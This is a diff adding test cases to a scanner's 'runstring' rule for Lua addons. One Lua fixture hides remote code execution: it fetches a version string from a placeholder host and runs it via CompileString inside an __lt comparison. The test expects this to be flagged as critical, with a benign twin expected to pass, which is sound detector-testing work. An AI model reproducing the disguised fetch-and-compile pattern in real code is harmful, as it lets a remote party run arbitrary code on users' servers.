@@ -523,6 +523,52 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a remote version compared through __lt, which compiles what it parses', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local meta = {}',
+        'local function parts(v)',
+        '  return CompileString("return { " .. string.gsub(v.raw, "%.", ",") .. " }", "v", false)()',
+        'end',
+        'meta.__lt = function(a, b)',
+        '  local pa, pb = parts(a), parts(b)',
+        '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
+        '  return false',
+        'end',
+        'local function Version(s) return setmetatable({ raw = s }, meta) end',
+        'timer.Simple(5, function()',
+        '  http.Fetch("https://upd.x.invalid/version", function(body)',
+        '    if Version("1.2.0") >= Version(body) then return end',
+        '    print("update available")',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a remote version compared through __lt, which splits it into numbers (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local meta = {}',
+        'local function parts(v)',
+        '  local t = {} for n in string.gmatch(v.raw, "%d+") do t[#t + 1] = tonumber(n) end return t',
+        'end',
+        'meta.__lt = function(a, b)',
+        '  local pa, pb = parts(a), parts(b)',
+        '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
+        '  return false',
+        'end',
+        'local function Version(s) return setmetatable({ raw = s }, meta) end',
+        'timer.Simple(5, function()',
+        '  http.Fetch("https://upd.x.invalid/version", function(body)',
+        '    if Version("1.2.0") >= Version(body) then return end',
+        '    print("update available")',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
